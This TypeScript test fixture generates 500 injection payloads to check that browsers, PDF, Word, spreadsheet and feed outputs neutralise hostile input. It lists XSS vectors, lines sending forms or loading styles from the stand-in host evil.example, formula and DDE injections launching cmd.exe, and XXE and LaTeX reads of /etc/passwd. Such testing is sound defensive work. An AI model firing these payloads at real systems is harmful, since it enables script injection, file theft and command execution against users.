// Texts that are meant to be taken for something else than text: by a browser, a reader of PDF, Word, a spreadsheet, a
// feed reader or a mail server.

/** Stands in every payload, followed by its number and a dot, so that it can be found again as text. */
const mark = "payload";

// What a text would have to leave first: an attribute, an element, a comment, a script, a style, a part of XML.
const ways = [
  "",
  '">',
  "'>",
  '" autofocus onfocus=hit() data-hostile="',
  "-->",
  "</p>",
  "</td></tr></table>",
  "</title>",
  "</textarea>",
  "</option></select>",
  "</script>",
  "</style>",
  "</svg>",
  "]]>",
  "</w:t></w:r></w:p>",
  "\u2028",
  "\u202e",
  "&lt;/p&gt;",
  "%22%3E",
  "\\u003c/script>",
];

// What would happen then. "hit" is a function that the tests listen at, and "data-hostile" an attribute that no page
// of ours has.
const deeds = [
  "<script data-hostile>hit()</script>",
  "<img data-hostile src=x onerror=hit()>",
  "<svg data-hostile onload=hit()>",
  "<svg><script data-hostile>hit()</script></svg>",
  '<a data-hostile href="javascript:hit()">go</a>',
  '<iframe data-hostile srcdoc="<script>parent.hit()</script>"></iframe>',
  "<object data-hostile data=javascript:hit()></object>",
  '<meta data-hostile http-equiv=refresh content="0;url=javascript:hit()">',
  "<base data-hostile href=//evil.example/>",
  "<style data-hostile>@import url(//evil.example/x.css);</style>",
  "<form data-hostile action=//evil.example><button>Send</button></form>",
  "<input data-hostile autofocus onfocus=hit()>",
  "<details data-hostile open ontoggle=hit()><summary>x</summary></details>",
  "<math><mi data-hostile xlink:href=javascript:hit()>x</mi></math>",
  '=HYPERLINK("http://evil.example","go")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "${hit()} {{hit()}} <%= hit() %>",
  "[go](javascript:hit()) ![x](//evil.example/x.png)",
  "\\input{/etc/passwd} \\href{javascript:hit()}{go}",
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>',
  "[[measure:none]] [[count:organizations]]",
];

/** 500 of them, each different. */
export const payloads: string[] = deeds.flatMap((deed, which) =>
  ways.map((way, at) => {
    const number = `${mark}${which * ways.length + at}.`;
    // A spreadsheet looks at how a cell begins.
    return /^[=@+-]/.test(deed) && way === "" ? `${deed} ${number}` : `${way}${deed} ${number}`;
  }),
);

/** Those whose number stands in a text. */
export const payloadsIn = (text: string): Set<string> =>
  new Set([...text.matchAll(new RegExp(`${mark}\\d+\\.`, "g"))].map(([number]) => number));

type Json = string | number | boolean | null | Json[] | { [name: string]: Json };

/** Gives out payloads in turn. */
export class Payloads {
  private next = 0;

  /** Every sentence in the answers of a record becomes a payload. Words without a blank are choices, dates and ids. */
  into(answer: Json): Json {
    if (typeof answer === "string") return answer.includes(" ") ? this.take() : answer;
    if (Array.isArray(answer)) return answer.map((one) => this.into(one));
    if (typeof answer !== "object" || answer === null) return answer;
    return Object.fromEntries(Object.entries(answer).map(([name, one]) => [name, this.into(one)]));
  }

  take(): string {
    return payloads[this.next++ % payloads.length]!;
  }
  get given(): number {
    return this.next;
  }
}
